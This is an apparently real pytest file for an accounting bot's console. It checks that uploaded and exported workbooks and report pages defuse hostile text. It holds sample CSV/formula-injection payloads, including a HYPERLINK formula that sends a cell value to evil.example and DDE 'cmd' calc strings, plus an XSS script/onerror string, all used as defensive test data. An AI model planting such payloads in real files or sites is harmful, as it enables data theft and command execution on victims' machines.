"""Files that come out of the console: hostile text of workbook and site is no formula and no markup."""

from __future__ import annotations

import io
import re
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from fakes.plans import make_plan, some_entries
from made_up_desk import ROOT, Reader, open_desk
from openpyxl import load_workbook

from bot.console.tasks import Name
from bot.domain.model import Receipt
from bot.language import Text
from bot.ledger.store import Store
from bot.practice.sample import write_sample

pytestmark = [pytest.mark.job, pytest.mark.browser]

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"กด")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
)
COMMAND = (sys.executable, "-c", "from bot.cli import main; main()")
SHEET = "รายได้อื่น"


@pytest.fixture
def reader(tmp_path: Path) -> Iterator[Reader]:
    """Open a console whose commands are the real ones, on a config of its own."""
    (tmp_path / "config.yaml").write_text(
        f'site: {{url: "http://127.0.0.1:1/", fiscal_year: 2567}}\nmappings: "{ROOT / "mappings"}"\n'
        "workbook: entries.xlsx\nledger: ledger.sqlite3\nevidence: {dir: evidence}\n",
        encoding="utf-8",
    )
    write_sample(tmp_path / "entries.xlsx", entries=8, seed=3)
    poison(tmp_path / "entries.xlsx")
    with open_desk(tmp_path) as desk:
        desk.tasks = replace(desk.tasks, command=COMMAND)
        yield Reader(desk).enter()


def poison(path: Path) -> None:
    """Put hostile texts, as texts, into the cells of one column."""
    book = load_workbook(path)
    sheet = book[SHEET]
    column = next(cell.column for cell in sheet[1] if cell.value == "รายละเอียด")
    while sheet.max_row < len(HOSTILE) + 1:
        sheet.append([cell.value for cell in sheet[2]])
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row, column)
        cell.value, cell.data_type = text, "s"
    book.save(path)


def done(reader: Reader, name: Name) -> None:
    task = reader.desk.tasks.last(name)
    assert task
    reader.desk.tasks.wait(task, seconds=300)
    assert task.code is not None


def cells_of(content: bytes) -> Iterator[Any]:
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def defused(content: bytes) -> list[str]:
    """Give the hostile texts that stand in a workbook, having proven that none of them is a formula."""
    found = []
    for cell in cells_of(content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        text = str(cell.value or "")
        if text.strip().startswith(("=", "+", "-", "@")) and cell.data_type == "s":
            assert cell.quotePrefix, (cell.coordinate, text)
            found.append(text.strip())
    return found


def test_the_marked_copy_of_a_hostile_workbook_wakes_nothing(reader: Reader) -> None:
    """Uploaded, checked and downloaded again: every cell that looks like a formula is text for good."""
    content = reader.desk.settings.workbook.read_bytes()
    answer = reader.post("/workbook/upload", files={"workbook": ("=cmd|calc.xlsx", content)})
    assert answer.status_code == 303
    done(reader, "check")
    page = reader.page("/workbook")
    assert "<script>alert" not in page
    marked = reader.get("/workbook/annotated")
    assert marked.headers["content-disposition"].startswith("attachment")
    assert set(defused(marked.content)) >= {text.strip() for text in HOSTILE[:5]}


def keep_what_a_hostile_site_said(store: Store) -> None:
    """Post every second entry under a hostile number, and have the others refused in hostile words."""
    entries = [
        replace(entry, sheet=SHEET, fields={**entry.fields, "paper": text, "note": text})
        for entry, text in zip(some_entries(len(HOSTILE)), HOSTILE, strict=True)
    ]
    run = store.begin_run(make_plan(*entries), operator=HOSTILE[0])
    store.enqueue(make_plan(*entries))
    for number, (entry, text) in enumerate(zip(entries, HOSTILE, strict=True)):
        store.claim(run)
        if number % 2:
            store.refused(entry.key, Text(th=text, en=text))
            continue
        store.about_to_commit(entry.key, baseline=(), typed={"note": text})
        at = store.database.now()
        store.posted(entry.key, Receipt(number=text, message=text, at=at, how="shown"))
    store.end_run(run, "done")


def test_the_reports_of_a_hostile_site_wake_nothing(reader: Reader) -> None:
    """Numbers, messages and values that the site gave stand in workbook and page, and do nothing."""
    keep_what_a_hostile_site_said(reader.desk.store)
    reader.post("/report")
    done(reader, "report")
    files = {name: reader.get(name) for name in re.findall(r'href="(/report/[^"]+)"', reader.page("/prove"))}
    books = [answer.content for name, answer in files.items() if name.endswith(".xlsx")]
    pages = [answer.text for name, answer in files.items() if name.endswith(".html")]
    assert books
    assert pages
    for book in books:
        assert defused(book)
    for page in pages:
        assert "<script>alert" not in page
        assert "<img src=x" not in page
